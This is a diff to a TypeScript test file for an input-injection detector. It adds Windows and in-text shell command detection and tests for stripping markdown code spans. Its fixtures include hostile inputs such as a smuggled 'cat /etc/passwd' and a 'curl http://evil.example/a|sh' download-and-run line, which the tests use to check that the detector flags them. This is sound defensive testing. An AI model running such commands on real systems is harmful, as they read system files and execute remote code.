@@ -14,7 +14,10 @@ import { detectorNeeds } from './needs.ts'
 import { detectNoSql } from './nosql.ts'
 import { detectObject } from './objects.ts'
 import { detectPath } from './path.ts'
+import { withoutCode } from './rich-text.ts'
 import { detectShell } from './shell.ts'
+import { detectShellInText } from './shell-text.ts'
+import { detectWindowsCommand } from './shell-windows.ts'
 import { detectSql } from './sql.ts'
 import { detectSsrf } from './ssrf.ts'
 import { detectTemplate } from './template.ts'
@@ -27,7 +30,7 @@ const detectors = {
   sql: detectSql,
   xss: detectXss,
   path: (value: string) => detectPath(value, 'value'),
-  shell: detectShell,
+  shell: (value: string) => detectShell(value) ?? detectWindowsCommand(value) ?? detectShellInText(value),
   ssrf: (value: string) => detectSsrf(value, 'hidden') ?? detectSsrf(value, 'private'),
   graphql: detectGraphql,
   code: detectCode,
@@ -273,6 +276,7 @@ test('no detector reports a value without what it needs', () => {
     detectlookup: detectLookup,
     detectnosql: detectNoSql,
     detectobject: detectObject,
+    detectshell: (value: string) => detectShell(value) ?? detectWindowsCommand(value) ?? detectShellInText(value),
     detecttemplate: detectTemplate,
     detectxml: detectXml,
     detectxpath: detectXPath,
@@ -297,6 +301,42 @@ test('no detector reports a value without what it needs', () => {
       { numRuns: 2000 },
     )
   }
+})
+
+describe('commands in texts', () => {
+  const lines = 'Dear all,\n\nthis is a text.\nIt has\nmany\nlines\nand ends\nhere\n'
+  for (const [name, value, isFound] of [
+    ['a command at the end', `${lines}x; cat /etc/passwd`, true],
+    ['a download that is run', `${lines}name|curl http://evil.example/a|sh`, true],
+    ['in a block of code', `${lines}\`\`\`sh\ncd a; cat /etc/passwd\n\`\`\`\n`, false],
+    ['behind a prompt', `${lines}$ cd a; cat /etc/passwd`, false],
+    ['set in', `${lines}    cd a; cat /etc/passwd`, false],
+    ['without an aim', `${lines}cd a; cat readme | grep x`, false],
+    ['in few lines, which others judge', 'x; cat /etc/passwd', false],
+  ] as const) {
+    test(name, () => assert.equal(detectShellInText(value) !== undefined, isFound))
+  }
+})
+
+describe('rich text', () => {
+  for (const [value, rest] of [
+    ['a `<b>` c', 'a       c'],
+    ['a ` b', 'a ` b'],
+    ['```\n<x>\n```\nb', `${' '.repeat(11)}\nb`],
+    ['```\n<x>', '```\n<x>'],
+    ['~~~\n<x>\n~~~', ' '.repeat(11)],
+    ['``a`b``', ' '.repeat(7)],
+  ] as const) {
+    test(JSON.stringify(value), () => assert.equal(withoutCode(value), rest))
+  }
+  test('keeps the length and takes linear time', () => {
+    for (const pattern of ['`', '`a', '```', '~~~\n', '``` a\n', '`\n']) {
+      const value = pattern.repeat(Math.ceil(65_536 / pattern.length))
+      const start = performance.now()
+      assert.equal(withoutCode(value).length, value.length)
+      assert.ok(performance.now() - start < 1000, JSON.stringify(pattern))
+    }
+  })
 })
 
 describe('unwrap', () => {
